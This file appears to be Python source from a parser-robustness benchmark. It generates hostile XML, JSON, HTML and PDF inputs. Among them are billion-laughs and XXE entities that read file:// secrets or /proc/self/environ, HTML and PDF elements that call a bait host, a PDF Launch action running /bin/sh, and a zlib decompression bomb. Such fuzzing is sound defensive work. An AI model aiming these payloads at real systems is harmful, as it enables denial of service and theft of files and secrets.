"""Attacks that belong to one format: XML, JSON, HTML, PDF."""

import json
import re
import zlib

from benchmarks.hostile_bytes import Given, Made, Mutation, kept_name
from benchmarks.hostile_originals import leaflet

DEEP = 5_000  # elements in one another
WIDE = 200_000  # characters of one name or value

# XML


def _declared(given: Given, subset: str, used: str) -> Made:
    """The file with a document type of its own, and what it declares in its words."""
    content = given.file.content
    head = re.match(rb"\s*<\?xml[^>]*\?>", content)
    start = head.end() if head else 0
    kind = f"<!DOCTYPE x [{subset}]>".encode()
    body = re.sub(rb"<!DOCTYPE[^>\[]*(\[[^\]]*\])?>", b"", content[start:])
    spots = [m.end() - 1 for m in re.finditer(rb">[^<>]*[a-z][^<>]*<", body)] or [len(body)]
    at = given.chance.choice(spots)
    return kept_name(given, content[:start] + kind + body[:at] + used.encode() + body[at:])


def billion_laughs(given: Given) -> Made:
    lines = ['<!ENTITY l0 "ha">']
    lines += [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
    return _declared(given, "".join(lines), "&l9;")


def quadratic_entity(given: Given) -> Made:
    return _declared(given, f'<!ENTITY q "{"q" * 50_000}">', "&q;" * 5_000)


def entity_in_itself(given: Given) -> Made:
    return _declared(given, '<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;")


def external_entity(given: Given) -> Made:
    bait = given.bait
    subset, used = given.chance.choice(
        (
            (f'<!ENTITY e SYSTEM "file://{bait.secret}">', "&e;"),
            (f'<!ENTITY e SYSTEM "{bait.address}/entity">', "&e;"),
            (f'<!ENTITY % p SYSTEM "{bait.address}/parameter"> %p;', "x"),
            (f'<!ENTITY % p SYSTEM "file://{bait.secret}"> %p;', "x"),
            (f'<!ENTITY e PUBLIC "x" "{bait.address}/public">', "&e;"),
            ('<!ENTITY e SYSTEM "file:///dev/zero">', "&e;"),
            ('<!ENTITY e SYSTEM "file:///proc/self/environ">', "&e;"),
        )
    )
    return _declared(given, subset, used)


def external_type(given: Given) -> Made:
    """A document type, stylesheet, schema and inclusion that lie elsewhere."""
    at, content = given.bait.address, given.file.content
    before = f'<?xml-stylesheet type="text/xsl" href="{at}/s"?><!DOCTYPE x SYSTEM "{at}/dtd">'
    head = re.match(rb"\s*<\?xml[^>]*\?>", content)
    start = head.end() if head else 0
    space = "http://www.w3.org/2001/XInclude"
    inside = f'<i:include xmlns:i="{space}" href="file://{given.bait.secret}" parse="text"/>'
    end = content.rfind(b"</")
    body = re.sub(rb"<!DOCTYPE[^>\[]*(\[[^\]]*\])?>", b"", content[start:end])
    return kept_name(
        given, content[:start] + before.encode() + body + inside.encode() + content[end:]
    )


def deep_elements(given: Given) -> Made:
    return _inside(given, b"<a>" * DEEP + b"deep" + b"</a>" * given.chance.choice((0, DEEP)))


def huge_attribute(given: Given) -> Made:
    return _inside(given, b'<a b="' + b"x" * given.chance.choice((1, 5, 50)) * WIDE + b'"/>')


def huge_name(given: Given) -> Made:
    return _inside(given, b"<" + b"n" * WIDE + b"/>")


def many_attributes(given: Given) -> Made:
    return _inside(given, b"<a " + b" ".join(b'a%d="1"' % n for n in range(30_000)) + b"/>")


def many_elements(given: Given) -> Made:
    return _inside(
        given, given.chance.choice((b"<a/>", b"<a>x</a>", b"<p/>", b"<i><b/></i>")) * 60_000
    )


def many_references(given: Given) -> Made:
    return _inside(given, given.chance.choice((b"&#x41;", b"&amp;", b"&#0;", b"&#xFFFF;")) * 20_000)


def sections_without_end(given: Given) -> Made:
    return _inside(given, given.chance.choice((b"<![CDATA[", b"<!--", b"<?x ")) + b"x" * WIDE)


def repeated_elements(given: Given) -> Made:
    """An element of the format itself, thousands of times, or in itself."""
    content = given.file.content
    names = sorted(set(re.findall(rb"<([A-Za-z][\w:.-]*)", content)))
    name = given.chance.choice(names) if names else b"p"
    if given.chance.random() < 0.5:
        return _inside(given, (b"<%s>x</%s>" % (name, name)) * 20_000)
    return _inside(given, b"<%s>" % name * 240 + b"x" + b"</%s>" % name * 240)


def lying_declaration(given: Given) -> Made:
    codes = (b"utf-16", b"utf-7", b"ebcdic-cp-us", b"no-such-code", b"iso-2022-jp", b"x" * 2000)
    head = b"<?xml version='1.%d' encoding='%s'?>" % (
        given.chance.choice((0, 1, 9)),
        given.chance.choice(codes),
    )
    return kept_name(given, head + re.sub(rb"^\s*<\?xml[^>]*\?>", b"", given.file.content))


def _inside(given: Given, added: bytes) -> Made:
    """Between two tags of the file."""
    content = given.file.content
    spots = [m.start() + 1 for m in re.finditer(rb"></?", content)] or [len(content)]
    at = given.chance.choice(spots)
    return kept_name(given, content[:at] + added + content[at:])


# JSON


def deep_json(given: Given) -> Made:
    opening, closing = given.chance.choice((("[", "]"), ('{"a":', "}")))
    return _valued(given, opening * 50_000 + "1" + closing * given.chance.choice((0, 50_000)))


def odd_value(given: Given) -> Made:
    values = (
        *("NaN", "-Infinity", "1e400", "9" * 6000, "null", "true", "[]", "{}", "-0.0", "[[]]"),
        *('"\\ud800"', '"\\u0000"', '""', '{"":{}}', "[null]", '{"a":1,"a":2}', '" "', '"\\u202e"'),
    )
    return _valued(given, given.chance.choice(values), times=given.chance.choice((1, 5, 50)))


def huge_json(given: Given) -> Made:
    many = given.chance.choice(
        (
            '"' + "x" * 20 * WIDE + '"',
            "[" + "[]," * 200_000 + "[]]",
            "{" + ",".join(f'"k{n}":1' for n in range(100_000)) + "}",
        )
    )
    return _valued(given, many)


def lists_for_values(given: Given) -> Made:
    """Every value in the wrong place: the same document with its types changed at random."""
    try:
        whole = json.loads(given.file.content)
    except ValueError:
        return odd_value(given)
    return kept_name(given, json.dumps(_confused(given, whole, 0)).encode())


def _confused(given: Given, value: object, depth: int) -> object:
    if given.chance.random() < 0.03 and depth:
        return given.chance.choice(
            (None, 1, -1.5, "", "x", [], {}, [value], {"value": value}, True)
        )
    if isinstance(value, dict):
        return {key: _confused(given, held, depth + 1) for key, held in value.items()}
    if isinstance(value, list):
        return [_confused(given, held, depth + 1) for held in value]
    return value


def _valued(given: Given, value: str, *, times: int = 1) -> Made:
    content = given.file.content
    spots = [m.span(1) for m in re.finditer(rb':\s*("[^"\\]*"|\d+|true|null)', content)]
    out = bytearray(content)
    for first, last in sorted(given.chance.sample(spots, min(times, len(spots))), reverse=True):
        out[first:last] = value.encode()
    return kept_name(given, bytes(out))


# HTML


def spans_without_end(given: Given) -> Made:
    cell = given.chance.choice(
        (
            '<td colspan="99" rowspan="99">x</td>',
            '<td colspan="9999999">x</td>',
            '<td rowspan="-1">',
        )
    )
    rows = given.chance.choice((1, 60, 3000))
    table = ("<tr>" + cell * (3000 // rows) + "</tr>") * rows
    return _inside(given, f"<table>{table}</table>".encode())


def deep_html(given: Given) -> Made:
    tag = given.chance.choice(
        ("div", "table", "table><tr><td", "ul><li", "b", "blockquote", "font")
    )
    return _inside(given, f"<{tag}>".encode() * DEEP + b"deep")


def calls_home(given: Given) -> Made:
    at = given.bait.address
    return _inside(
        given,
        f'<base href="{at}/"><img src="{at}/img"><script src="{at}/js"></script><link rel="'
        f'stylesheet" href="{at}/css"><meta http-equiv="refresh" content="0;url={at}/r"><iframe '
        f'src="{at}/f"></iframe><svg><use href="{at}/u"/></svg><object data="{at}/o">'.encode(),
    )


def active_html(given: Given) -> Made:
    words = "".join(given.chance.sample(given.all.strings, min(10, len(given.all.strings))))
    return _inside(given, words.encode("utf-8", "replace"))


# PDF


FORM = (
    "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources 6 0 R /Length 5 >>\n"
    "stream\n/X Do\nendstream"
)
OUTLINES = ("<< /First 6 0 R /Next 6 0 R >>",)
KIDS = b"/Kids [3 0 R]"


def looped_objects(given: Given) -> Made:
    """Objects that lead to themselves: pages, outlines, forms, lengths."""
    shown = ("<< /XObject << /X 7 0 R >> >>", FORM)
    loops = (
        leaflet("", page="/Parent 3 0 R"),
        leaflet("", catalog="/Outlines 6 0 R", more=OUTLINES),
        leaflet("").replace(KIDS, b"/Kids [2 0 R]"),
        leaflet("").replace(KIDS + b" /Count 1", b"/Kids [3 0 R 2 0 R] /Count 99999999"),
        leaflet("/X Do", page="/Resources 6 0 R", more=shown),
        leaflet("").replace(b"/Length 0", b"/Length 4 0 R"),
    )
    return Made(b"loop.pdf", given.chance.choice(loops))


def huge_tables_of_objects(given: Given) -> Made:
    content = given.file.content
    changed = given.chance.choice(
        (
            content.replace(b"xref\n0 ", b"xref\n0 99999999", 1),
            re.sub(rb"/Size \d+", b"/Size 2147483647", content),
            re.sub(rb"/Count \d+", b"/Count 2147483647", content),
            re.sub(rb"startxref\s+\d+", b"startxref\n99999999999999", content),
            re.sub(rb"startxref\s+\d+", b"startxref\n0", content),
            content + content[-2000:] * 200,
        )
    )
    return kept_name(given, changed)


def huge_page(given: Given) -> Made:
    box = given.chance.choice(
        (
            b"[0 0 1e30 1e30]",
            b"[0 0 0 0]",
            b"[-9e9 -9e9 9e9 9e9]",
            b"[0 0 NaN 1]",
            b"[]",
            b"[9 9 1 1]",
        )
    )
    return kept_name(
        given, re.sub(rb"/MediaBox ?\[[^\]]*\]", b"/MediaBox " + box, given.file.content)
    )


def active_pdf(given: Given) -> Made:
    at, mark = given.bait.address, given.bait.mark
    action = given.chance.choice(
        (
            f"<< /S /JavaScript /JS (app.launchURL('{at}/js')) >>",
            f"<< /S /URI /URI ({at}/uri) >>",
            f"<< /S /Launch /F (/bin/sh) /Win << /F (touch {mark}) >> >>",
            f"<< /S /SubmitForm /F ({at}/form) >>",
            f"<< /S /GoToR /F ({at}/remote.pdf) /D [0 /Fit] >>",
            f"<< /S /ImportData /F ({given.bait.secret}) >>",
        )
    )
    words = "BT /F1 12 Tf 72 700 Td (Rest a sore knee.) Tj ET"
    return Made(
        b"active.pdf",
        leaflet(words, page=f"/AA << /O {action} >>", catalog=f"/OpenAction {action}"),
    )


def many_glyphs(given: Given) -> Made:
    line = given.chance.choice(
        (
            "BT /F1 1 Tf 1 1 Td (%s) Tj ET " % ("x" * 500),
            "0 0 m 9 9 l S ",
            "q ",
            "0 0 600 700 re f ",
            "BT /F1 9 Tf 9 %d Td (We recommend x) Tj ET ",
        )
    )
    operators = "".join(
        line % n if "%d" in line else line for n in range(given.chance.choice((300, 8000)))
    )
    return Made(b"glyphs.pdf", leaflet(operators))


def packed_stream(given: Given) -> Made:
    """A page that unpacks to a thousand times its size."""
    packed = zlib.compress(
        b"BT ET " * 20_000_000 if given.chance.random() < 0.2 else b"q Q " * 10**6, 9
    )
    body = leaflet("PLACE").replace(
        b"<< /Length 5 >>\nstream\nPLACE",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s" % (len(packed), packed),
    )
    return Made(b"stream.pdf", body)


XML: tuple[Mutation, ...] = (
    billion_laughs,
    quadratic_entity,
    entity_in_itself,
    external_entity,
    external_entity,
    external_type,
    deep_elements,
    huge_attribute,
    huge_name,
    many_attributes,
    many_elements,
    many_references,
    sections_without_end,
    repeated_elements,
    repeated_elements,
    lying_declaration,
)
JSON: tuple[Mutation, ...] = (
    deep_json,
    odd_value,
    odd_value,
    huge_json,
    lists_for_values,
    lists_for_values,
    lists_for_values,
)
HTML: tuple[Mutation, ...] = (
    spans_without_end,
    deep_html,
    calls_home,
    active_html,
    many_elements,
    huge_attribute,
    many_attributes,
    sections_without_end,
    many_references,
)
PDF: tuple[Mutation, ...] = (
    looped_objects,
    huge_tables_of_objects,
    huge_page,
    active_pdf,
    many_glyphs,
    packed_stream,
)
